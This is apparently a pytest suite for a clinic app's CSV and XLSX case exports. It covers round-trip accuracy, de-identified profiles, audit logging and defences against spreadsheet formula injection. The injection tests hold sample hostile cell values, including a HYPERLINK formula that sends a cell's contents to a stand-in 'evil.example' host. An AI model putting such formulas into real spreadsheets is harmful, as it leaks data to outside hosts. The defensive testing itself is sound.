"""CSV and XLSX exports from a real database: read back equal to what storage holds, profiles, audit.

The expected values come from storage itself (``get_case``, and ``list_cases`` rows whose money figures
storage computed when it saved the case), read with independent readers (``csv`` and openpyxl), never
with the export code's own inverse.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from clinic_app.domain.case import CaseKind, Note
from clinic_app.export.columns import COLUMNS, ColumnType, ExportRecord, columns_for
from clinic_app.export.errors import ColumnError, ExportCancelled
from clinic_app.export.exports import export_csv, export_xlsx
from clinic_app.export.labels import value_label
from clinic_app.export.tabular import header_text, xlsx_profile
from clinic_app.storage import CaseQuery

from .helpers import expected_csv_text, parse_csv_number, read_csv_raw, strip_prefix, xlsx_xml_text

PRESETS = {  # preset -> (bom, delimiter, decimal, true, false), as docs/exports.md states them
    "excel-fr": (True, ";", ",", "oui", "non"),
    "plain": (False, ",", ".", "true", "false"),
}


def _stored(store: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """Every live case by UUID, and its list row (figures as storage computed and stored them)."""
    rows = {r.uuid: r for r in store.list_cases(CaseQuery(limit=None))}
    cases = {c.uuid: c for c in store.iter_cases(CaseQuery(limit=None))}
    assert set(rows) == set(cases)
    return cases, rows


def _utc_text(value: dt.datetime) -> str:
    return value.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M:%S")


@pytest.mark.parametrize("preset", sorted(PRESETS))
def test_csv_reads_back_equal_to_the_database(demo_store: Any, tmp_path: Path, preset: str) -> None:
    bom, delimiter, decimal, true, false = PRESETS[preset]
    out = tmp_path / f"cases-{preset}.csv"
    n = export_csv(demo_store, out, preset=preset)
    cases, rows = _stored(demo_store)
    header, lines = read_csv_raw(out, bom=bom, delimiter=delimiter)
    assert n == len(lines) == len(cases)
    assert header == [header_text(c, "names", "fr") for c in COLUMNS]  # timestamps: "updated_at (UTC)"
    assert "updated_at (UTC)" in header
    for_people = preset == "excel-fr"
    ests = {e.id: e for e in demo_store.list_establishments()}
    seen = set()
    for line in lines:
        cell = {c.name: strip_prefix(text) for c, text in zip(COLUMNS, line, strict=True)}
        case, row = cases[cell["case_uuid"]], rows[cell["case_uuid"]]
        seen.add(case.uuid)
        # Straight from storage, independent of the export's column getters:
        assert cell["case_number"] == case.case_number == row.case_number
        if for_people:  # coded values as labels, in the export's language
            assert cell["kind"] == value_label(case.kind.value, "fr") and cell["status"] == value_label(
                case.status.value, "fr")
        else:
            assert cell["kind"] == case.kind.value and cell["status"] == case.status.value
        assert cell["given_name"] == case.person.given_name
        assert cell["family_name"] == case.person.family_name
        assert cell["phone"] == case.person.phone and cell["email"] == case.person.email
        assert cell["site"] == row.site_or_company
        assert cell["updated_at"] == _utc_text(case.updated_at)
        for name, stored in (("amount_owed", row.amount_owed), ("shortfall", row.shortfall)):
            assert (parse_csv_number(cell[name], decimal) if cell[name] else None) == stored, name
        assert cell["claim_deadline"] == (row.deadline.isoformat() if row.deadline else "")
        # Every column as the format documentation says it is written:
        record = ExportRecord(case, ests.get(case.establishment_id or ""))
        for col in COLUMNS:
            expected = expected_csv_text(col.type, col.get(record), decimal=decimal, true=true, false=false,
                                         name=col.name, for_people=for_people)
            assert cell[col.name] == expected, col.name
    assert seen == set(cases)
    assert any(r.amount_owed is not None for r in rows.values())  # the money check above compared numbers


def test_xlsx_reads_back_typed_and_equal_to_the_database(demo_store: Any, tmp_path: Path) -> None:
    out = tmp_path / "cases.xlsx"
    n = export_xlsx(demo_store, out)
    cases, rows = _stored(demo_store)
    wb = load_workbook(out)
    ws = wb.active
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(COLUMNS)).column_letter}{n + 1}"
    values = list(ws.iter_rows(values_only=False))
    assert [c.value for c in values[0]] == [header_text(c, "names", "fr") for c in COLUMNS]
    header = [c.name for c in COLUMNS]
    assert n == len(values) - 1 == len(cases)
    types = {c.name: c.type for c in COLUMNS}
    for line in values[1:]:
        cell = dict(zip(header, line, strict=True))
        case, row = cases[cell["case_uuid"].value], rows[cell["case_uuid"].value]
        assert cell["case_number"].value == case.case_number
        assert (cell["given_name"].value or "") == case.person.given_name
        assert (cell["phone"].value or "") == case.person.phone
        assert (cell["site"].value or "") == row.site_or_company
        for name, stored in (("amount_owed", row.amount_owed), ("shortfall", row.shortfall)):
            got = cell[name].value
            if stored is None:
                assert got is None
            else:
                assert isinstance(got, (int, float)) and round(Decimal(str(got)), 2) == stored, name
                assert '"$"' in cell[name].number_format
        deadline = cell["claim_deadline"].value
        assert (deadline.date() if deadline else None) == row.deadline
        if case.work.start_date is not None:
            assert isinstance(cell["start_date"].value, dt.datetime)
            assert cell["start_date"].value.date() == case.work.start_date
            assert cell["start_date"].number_format == "yyyy-mm-dd"
        updated = cell["updated_at"].value
        assert abs(updated - case.updated_at.astimezone(dt.UTC).replace(tzinfo=None)) < dt.timedelta(seconds=1)
        for name, c in cell.items():
            if types[name] is ColumnType.BOOL and c.value is not None:
                assert isinstance(c.value, bool), name
    wb.close()


def test_filtered_export_holds_exactly_the_matching_cases(demo_store: Any, tmp_path: Path) -> None:
    query = CaseQuery(kinds=(CaseKind.WAREHOUSE,), limit=20)  # the list's page size must not apply
    expected = {c.uuid for c in demo_store.iter_cases(CaseQuery(kinds=(CaseKind.WAREHOUSE,)))}
    assert 20 < len(expected) < demo_store.count_cases(CaseQuery())
    out = tmp_path / "warehouse.csv"
    n = export_csv(demo_store, out, query=query, columns=["case_uuid", "kind"], preset="plain")
    header, lines = read_csv_raw(out, bom=False, delimiter=",")
    assert header == ["case_uuid", "kind"] and n == len(lines)
    assert {line[0] for line in lines} == expected and {line[1] for line in lines} == {"warehouse"}


NASTY = {
    "given_name": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "family_name": "+Dupont",
    "preferred_name": "'=déjà protégé",
    "email": "@SUM(1+1)",
    "city": "\tMontréal",
    "address_line": "-2+3 rue; \"guillemets\"",
}


def _nasty_case(store: Any) -> Any:
    case = copy.deepcopy(next(store.iter_cases(CaseQuery(limit=1))))
    from clinic_app.domain.case import new_uuid

    case.uuid, case.case_number = new_uuid(), ""
    for name, value in NASTY.items():
        setattr(case.person, name, value)
    case.notes = [Note(text="=1+1")]
    return store.create_case(case)


@pytest.mark.parametrize("preset", sorted(PRESETS))
def test_formula_injection_is_neutralised_in_csv(demo_store: Any, tmp_path: Path, preset: str) -> None:
    bom, delimiter, *_ = PRESETS[preset]
    case = _nasty_case(demo_store)
    out = tmp_path / "nasty.csv"
    export_csv(demo_store, out, preset=preset)
    header, lines = read_csv_raw(out, bom=bom, delimiter=delimiter)
    for line in lines:  # no text cell of any case may start a formula
        for name, text in zip(header, line, strict=True):
            assert text[:1] not in ("=", "+", "@", "\t", "\r"), (name, text)
            if text.startswith("-"):
                assert parse_csv_number(text, PRESETS[preset][2]) < 0, name  # only real negative numbers
    mine = dict(zip(header, next(line for line in lines if line[0] == case.uuid), strict=True))
    for name, value in NASTY.items():
        assert mine[name] == "'" + value and strip_prefix(mine[name]) == value
    assert mine["notes"] == "'=1+1"


def test_formula_injection_is_neutralised_in_xlsx(demo_store: Any, tmp_path: Path) -> None:
    case = _nasty_case(demo_store)
    out = tmp_path / "nasty.xlsx"
    export_xlsx(demo_store, out)
    assert "<f>" not in xlsx_xml_text(out)  # no formula anywhere in the workbook
    wb = load_workbook(out)
    ws = wb.active
    header = [c.value for c in ws[1]]
    line = next(r for r in ws.iter_rows(min_row=2) if r[0].value == case.uuid)
    mine = dict(zip(header, line, strict=True))
    for name, value in NASTY.items():
        assert mine[name].data_type == "s" and mine[name].value == value, name
    wb.close()


def _demo_identities(store: Any) -> list[str]:
    """Every demo person's names, phone, email, address and postal code (what must never leave)."""
    out: set[str] = set()
    for case in store.iter_cases(CaseQuery(limit=None)):
        p = case.person
        for value in (p.given_name, p.family_name, p.phone, p.email,
                      p.address_line, p.postal_code, p.immigration_status, p.preferred_name):
            if value:
                out.add(value)
    return sorted(out)


def test_deidentified_exports_hold_no_personal_data(demo_store: Any, tmp_path: Path) -> None:
    identities = _demo_identities(demo_store)
    assert len(identities) > 200  # names, phones and emails of 120 people: the scan has something to find
    files = {}
    for preset in PRESETS:
        path = tmp_path / f"deid-{preset}.csv"
        export_csv(demo_store, path, preset=preset, profile="deidentified")
        files[path] = path.read_bytes().decode("utf-8-sig")
    xlsx = tmp_path / "deid.xlsx"
    export_xlsx(demo_store, xlsx, profile="deidentified")
    files[xlsx] = xlsx_xml_text(xlsx)
    # the same scan finds them in a full export: it is able to fail
    full = tmp_path / "full.csv"
    export_csv(demo_store, full, preset="plain")
    full_text = full.read_text("utf-8")
    assert all(v in full_text for v in identities if "\n" not in v)
    for path, text in files.items():
        leaked = [v for v in identities if v in text]
        assert leaked == [], (path.name, leaked[:5])
    header = files[tmp_path / "deid-plain.csv"].splitlines()[0].split(",")
    assert header == [c.name for c in columns_for("deidentified")] + ["service_years"]  # generalised, k >= 5
    assert not {"given_name", "family_name", "phone", "email", "address_line", "immigration_status",
                "notes"} & set(header)


def test_deidentified_refuses_a_personal_column(demo_store: Any, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    with pytest.raises(ColumnError) as err:
        export_csv(demo_store, out, columns=["case_number", "email"], profile="deidentified")
    assert "email" in err.value.message("fr") and "email" in err.value.message("en")
    assert not out.exists()


def test_profile_is_in_the_file_metadata_and_the_audit_log(demo_store: Any, tmp_path: Path) -> None:
    xlsx = tmp_path / "Tremblay-cases.xlsx"
    n = export_xlsx(demo_store, xlsx, profile="deidentified", columns=["case_number", "site", "amount_owed"])
    assert xlsx_profile(xlsx) == "deidentified"
    entry = demo_store.audit_entries()[-1]
    assert entry.action == "export" and entry.actor == "tester"
    assert "export xlsx" in entry.detail and "profile=deidentified" in entry.detail and f"n={n}" in entry.detail
    assert "columns=case_number,site,amount_owed" in entry.detail
    assert f"sha256={hashlib.sha256(xlsx.read_bytes()).hexdigest()}" in entry.detail
    assert "Tremblay" not in entry.detail  # never the file name (often a person's name)

    csv_path = tmp_path / "full.csv"
    export_csv(demo_store, csv_path, profile="full", preset="excel-fr")
    entry = demo_store.audit_entries()[-1]
    assert "export csv" in entry.detail and "profile=full" in entry.detail and "preset=excel-fr" in entry.detail
    assert f"sha256={hashlib.sha256(csv_path.read_bytes()).hexdigest()}" in entry.detail
    full_xlsx = tmp_path / "full.xlsx"
    export_xlsx(demo_store, full_xlsx)
    assert xlsx_profile(full_xlsx) == "full"


def test_cancelled_export_leaves_no_file_and_no_audit(make_store: Any, tmp_path: Path) -> None:
    from .conftest import fill_with_demo

    store = make_store("big")
    fill_with_demo(store, count=700)
    before = len(store.audit_entries())
    for fmt, export in (("csv", export_csv), ("xlsx", export_xlsx)):
        out = tmp_path / f"cancelled.{fmt}"
        with pytest.raises(ExportCancelled):
            export(store, out, progress=lambda done: done < 500)
        assert not out.exists()
        assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".cancelled")] == []
    assert len(store.audit_entries()) == before
